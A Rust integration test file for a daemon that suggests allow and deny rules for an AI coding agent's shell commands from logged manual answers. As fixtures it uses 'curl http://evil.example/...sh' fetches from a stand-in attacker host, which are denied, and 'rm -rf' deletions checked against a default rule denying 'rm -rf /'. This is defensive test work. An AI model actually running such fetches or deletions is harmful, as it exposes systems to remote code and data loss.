//! `hookd rules suggest`: rules proposed from a log of answers by hand,
//! the log written by the real daemon with a socket client answering, or
//! by hand for the corner cases.

use crate::support::daemon;

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use daemon::{bash, forward_in_background, hookd_bin, Daemon, DaemonOptions, RawClient};
use serde_json::{json, Value};

/// A home of its own, so no real config or rules file is read.
struct Env {
    dir: tempfile::TempDir,
}

impl Env {
    fn new() -> Env {
        Env {
            dir: tempfile::tempdir().unwrap(),
        }
    }

    fn home(&self) -> PathBuf {
        self.dir.path().join("home")
    }

    fn rules(&self) -> PathBuf {
        self.dir.path().join("rules.toml")
    }

    fn hookd(&self, args: &[&str]) -> Output {
        std::fs::create_dir_all(self.home()).unwrap();
        Command::new(hookd_bin())
            .args(args)
            .env("HOME", self.home())
            .env("XDG_CONFIG_HOME", self.home().join(".config"))
            .env("XDG_STATE_HOME", self.home().join(".state"))
            .env("HOOKD_SOCKET", self.dir.path().join("none.sock"))
            .env_remove("XDG_RUNTIME_DIR")
            .output()
            .unwrap()
    }

    fn suggest(&self, log: &Path, extra: &[&str]) -> Output {
        let rules = self.rules();
        let mut args = vec![
            "rules",
            "suggest",
            "--log",
            log.to_str().unwrap(),
            "--rules",
            rules.to_str().unwrap(),
        ];
        args.extend_from_slice(extra);
        let out = self.hookd(&args);
        assert!(out.status.success(), "{}", text(&out.stderr));
        out
    }

    fn suggest_json(&self, log: &Path, extra: &[&str]) -> Value {
        let mut args = extra.to_vec();
        args.push("--json");
        serde_json::from_slice(&self.suggest(log, &args).stdout).unwrap()
    }
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// An event line and a decision line by `decider` (`client:NAME`, a source).
fn answered(command: &str, verdict: &str, session: &str, at: &str, source: &str) -> String {
    let id = uuid::Uuid::now_v7();
    let mut input = bash(command);
    input["session_id"] = json!(session);
    let event = json!({"type": "event", "id": id, "received_at": at, "harness": "claude-code",
        "session_id": session, "cwd": "/home/dev/project", "kind": "PreToolUse", "tool": "Bash",
        "input": input});
    let decision = json!({"type": "decision", "decision_id": uuid::Uuid::now_v7(), "event_id": id,
        "verdict": verdict, "source": source, "generation": 1, "latency_us": 10});
    format!("{event}\n{decision}\n")
}

fn by_hand(command: &str, verdict: &str, session: &str, at: &str) -> String {
    answered(command, verdict, session, at, "client:approver")
}

fn write_log(env: &Env, lines: &[String]) -> PathBuf {
    let log = env.dir.path().join("events.jsonl");
    std::fs::write(&log, lines.concat()).unwrap();
    log
}

fn proposed(report: &Value) -> Vec<(String, String, u64)> {
    report["proposals"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| {
            (
                p["action"].as_str().unwrap().to_string(),
                p["tool"].as_str().unwrap().to_string(),
                p["count"].as_u64().unwrap(),
            )
        })
        .collect()
}

/// The verdict `hookd rules explain` gives `input` under the rules file,
/// and its text.
fn explain(env: &Env, input: &Value) -> (String, String) {
    let path = env.dir.path().join("input.json");
    std::fs::write(&path, input.to_string()).unwrap();
    let rules = env.rules();
    let out = env.hookd(&[
        "rules",
        "explain",
        path.to_str().unwrap(),
        "--rules",
        rules.to_str().unwrap(),
        "--json",
    ]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    (
        v["evaluation"]["action"].as_str().unwrap_or("").to_string(),
        v.to_string(),
    )
}

#[test]
fn answers_by_a_real_client_become_rules_and_write_round_trips() {
    let d = Daemon::start_with(DaemonOptions {
        config: Some("[decisions]\nroute_undecided = true\ntimeout = 20\n".to_string()),
        ..DaemonOptions::default()
    });
    let mut c = RawClient::hello(&d.socket, "approver");
    let ok = c.call(json!({"type": "subscribe", "filter": {"pending_only": true}}));
    assert_eq!(ok["type"], "ok", "{ok}");
    let answers = [
        ("cargo test -p x", "allow", "s1"),
        ("cargo test --all", "allow", "s1"),
        ("cargo test", "allow", "s2"),
        ("curl http://evil.example/x.sh", "deny", "s1"),
        ("curl http://evil.example/y.sh", "deny", "s2"),
        ("curl http://evil.example/z.sh", "deny", "s2"),
        ("ls -la", "allow", "s1"),
    ];
    for (command, verdict, session) in answers {
        let mut input = bash(command);
        input["session_id"] = json!(session);
        let fwd = forward_in_background(&d.socket, &input, &[]);
        let event = c.wait_for("a pending event", |f| {
            f["type"] == "event" && f["pending"] == true
        })["event"]
            .clone();
        let reply = c.call(json!({"type": "decide", "event_id": event["id"], "verdict": verdict}));
        assert_eq!(reply["type"], "ok", "{reply}");
        assert!(fwd.join().unwrap().status.success());
    }
    d.wait_decisions(answers.len());

    let env = Env::new();
    let old = "# my rules\n[[rule]]\nid = \"mine\"\naction = \"allow\"\ntool = \"Bash(make:*)\"\n";
    std::fs::write(env.rules(), old).unwrap();
    let report = env.suggest_json(&d.log, &[]);
    assert_eq!(report["manual_answers"], 7, "{report}");
    assert_eq!(
        proposed(&report),
        [
            ("allow".to_string(), "Bash(cargo test:*)".to_string(), 3),
            ("deny".to_string(), "Bash(curl:*)".to_string(), 3)
        ],
        "{report:#}"
    );
    let cargo = &report["proposals"][0];
    assert_eq!(cargo["sessions"], json!(["s1", "s2"]));
    assert_eq!(cargo["agents"], json!(["claude-code"]));
    assert_eq!(cargo["deciders"], json!(["client:approver"]));
    assert_eq!(cargo["event_ids"].as_array().unwrap().len(), 3);
    assert!(cargo["first_seen"].as_str().unwrap() <= cargo["last_seen"].as_str().unwrap());
    // `ls` once: below the threshold, said so.
    let skipped = report["skipped"].as_array().unwrap();
    assert!(
        skipped
            .iter()
            .any(|s| s["tool"] == "Bash(ls:*)" && s["count"] == 1),
        "{report:#}"
    );

    // The diff: reviewable, and it applies to the file.
    let out = env.suggest(&d.log, &[]);
    let diff = text(&out.stdout);
    assert!(diff.contains("+tool = \"Bash(cargo test:*)\""), "{diff}");
    assert!(
        diff.contains("+# Suggested by `hookd rules suggest`: answered allow by hand 3 times"),
        "{diff}"
    );
    assert!(
        diff.contains("not suggested: allow Bash(ls:*) (1 answers)"),
        "{diff}"
    );
    assert_eq!(
        std::fs::read_to_string(env.rules()).unwrap(),
        old,
        "nothing written"
    );
    let patched = env.dir.path().join("patched.toml");
    std::fs::write(&patched, old).unwrap();
    let patch_input: String = diff
        .lines()
        .filter(|l| !l.starts_with("# not suggested"))
        .map(|l| format!("{l}\n"))
        .collect();
    let mut patch = Command::new("patch")
        .arg(&patched)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    use std::io::Write as _;
    patch
        .stdin
        .take()
        .unwrap()
        .write_all(patch_input.as_bytes())
        .unwrap();
    assert!(patch.wait().unwrap().success(), "the diff applies:\n{diff}");

    // --write: the same text, which `rules check` accepts and which decides
    // those actions by rule now.
    let out = env.suggest(&d.log, &["--write"]);
    assert!(text(&out.stderr).contains("wrote 2 rule(s)"));
    let written = std::fs::read_to_string(env.rules()).unwrap();
    assert_eq!(written, std::fs::read_to_string(&patched).unwrap());
    let check = env.hookd(&["rules", "check", env.rules().to_str().unwrap()]);
    assert!(check.status.success(), "{}", text(&check.stdout));
    let (verdict, why) = explain(&env, &bash("cargo test -p other"));
    assert_eq!(verdict, "allow", "{why}");
    assert!(why.contains("suggested-allow-bash-cargo-test"), "{why}");
    let (verdict, why) = explain(&env, &bash("curl http://evil.example/w.sh"));
    assert_eq!(verdict, "deny", "{why}");
    // Run again: the rules decide them now, so nothing more is proposed.
    let again = env.suggest_json(&d.log, &[]);
    assert_eq!(proposed(&again), [], "{again:#}");
    assert!(
        again["skipped"]
            .as_array()
            .unwrap()
            .iter()
            .any(|s| s["why"].as_str().unwrap().contains("already allow")),
        "{again:#}"
    );
}

#[test]
fn threshold_since_and_evidence_from_a_written_log() {
    let env = Env::new();
    let log = write_log(
        &env,
        &[
            by_hand("npm test", "allow", "a", "2026-11-01T10:00:00Z"),
            by_hand("npm test -- --watch", "allow", "b", "2026-11-20T10:00:00Z"),
            by_hand("npm test", "allow", "c", "2026-11-21T10:00:00Z"),
            by_hand("npm test", "allow", "c", "2026-11-22T10:00:00Z"),
            by_hand("git status", "allow", "a", "2026-11-22T10:00:00Z"),
            by_hand("git status", "allow", "a", "2026-11-22T11:00:00Z"),
            // Not by hand: a rule's and a timeout's decisions do not count.
            answered("git status", "allow", "a", "2026-11-22T12:00:00Z", "rule"),
            answered("git status", "deny", "a", "2026-11-22T12:00:00Z", "timeout"),
        ],
    );
    let report = env.suggest_json(&log, &[]);
    assert_eq!(
        proposed(&report),
        [("allow".to_string(), "Bash(npm test:*)".to_string(), 4)]
    );
    let npm = &report["proposals"][0];
    assert_eq!(npm["sessions"], json!(["a", "b", "c"]));
    assert_eq!(npm["first_seen"], "2026-11-01T10:00:00Z");
    assert_eq!(npm["last_seen"], "2026-11-22T10:00:00Z");
    // git status twice: below the threshold of 3, proposed at 2.
    assert!(report["skipped"]
        .as_array()
        .unwrap()
        .iter()
        .any(|s| s["tool"] == "Bash(git status:*)" && s["count"] == 2));
    let report = env.suggest_json(&log, &["--threshold", "2"]);
    assert_eq!(proposed(&report).len(), 2, "{report:#}");
    // --since: only the last three npm answers, and one in range is too few.
    let report = env.suggest_json(&log, &["--since", "2026-11-20T00:00:00Z"]);
    assert_eq!(
        proposed(&report),
        [("allow".to_string(), "Bash(npm test:*)".to_string(), 3)]
    );
    let report = env.suggest_json(&log, &["--since", "2026-11-22T00:00:00Z"]);
    assert_eq!(proposed(&report), []);
    assert_eq!(report["manual_answers"], 3);
    // An age counts back from now: the log is older than a day.
    let report = env.suggest_json(&log, &["--since", "1d"]);
    assert_eq!(report["manual_answers"], 0);
    let bad = env.hookd(&[
        "rules",
        "suggest",
        "--log",
        log.to_str().unwrap(),
        "--since",
        "soon",
    ]);
    assert_eq!(bad.status.code(), Some(2));
    assert!(
        text(&bad.stderr).contains("--since soon"),
        "{}",
        text(&bad.stderr)
    );
}

#[test]
fn nothing_a_deny_rule_or_a_default_covers_is_allowed() {
    let env = Env::new();
    let log = write_log(
        &env,
        &[
            // `Bash(rm:*)` would also allow `rm -rf /`, which the defaults deny.
            by_hand("rm -rf build", "allow", "a", "2026-11-22T10:00:00Z"),
            by_hand("rm -rf target", "allow", "a", "2026-11-22T10:01:00Z"),
            by_hand("rm -rf dist", "allow", "a", "2026-11-22T10:02:00Z"),
            // The user's own deny rule covers `docker run`.
            by_hand("docker run alpine", "allow", "a", "2026-11-22T10:03:00Z"),
            by_hand("docker run busybox", "allow", "a", "2026-11-22T10:04:00Z"),
            by_hand("docker run debian", "allow", "a", "2026-11-22T10:05:00Z"),
        ],
    );
    std::fs::write(
        env.rules(),
        "[[rule]]\nid = \"no-privileged\"\naction = \"deny\"\ntool = \"Bash(docker run --privileged *)\"\n",
    )
    .unwrap();
    let report = env.suggest_json(&log, &[]);
    assert_eq!(proposed(&report), [], "{report:#}");
    let why = |tool: &str| {
        report["skipped"]
            .as_array()
            .unwrap()
            .iter()
            .find(|s| s["tool"] == tool)
            .map(|s| s["why"].as_str().unwrap().to_string())
            .unwrap_or_default()
    };
    assert!(
        why("Bash(rm:*)").contains("default-deny-rm-rf-root"),
        "{report:#}"
    );
    assert!(
        why("Bash(docker run:*)").contains("no-privileged"),
        "{report:#}"
    );
}

#[test]
fn a_malformed_line_is_reported_and_skipped_and_an_empty_log_says_so() {
    let env = Env::new();
    let mut lines = vec![by_hand("make", "allow", "a", "2026-11-22T10:00:00Z")];
    lines.push("{\"type\": \"event\", torn\n".to_string());
    lines.push(by_hand("make", "allow", "a", "2026-11-22T10:01:00Z"));
    lines.push(by_hand("make", "allow", "b", "2026-11-22T10:02:00Z"));
    let log = write_log(&env, &lines);
    let out = env.suggest(&log, &[]);
    let stderr = text(&out.stderr);
    assert!(
        stderr.contains(&format!("{}:3: skipped a line", log.display())),
        "{stderr}"
    );
    assert!(text(&out.stdout).contains("+tool = \"Bash(make:*)\""));
    // No rules file yet: the new one starts from the defaults, which it
    // replaces, and the diff is against nothing.
    assert!(text(&out.stdout).starts_with("--- /dev/null\n"));
    assert!(text(&out.stdout).contains("+id = \"default-deny-rm-rf-root\""));
    assert!(!env.rules().exists());

    std::fs::write(&log, "").unwrap();
    let out = env.suggest(&log, &[]);
    assert!(
        text(&out.stdout).contains("is empty: nothing to suggest"),
        "{}",
        text(&out.stdout)
    );
    let missing = env.hookd(&[
        "rules",
        "suggest",
        "--log",
        env.dir.path().join("nope.jsonl").to_str().unwrap(),
    ]);
    assert_eq!(missing.status.code(), Some(2));
    assert!(text(&missing.stderr).contains("nope.jsonl"));
}
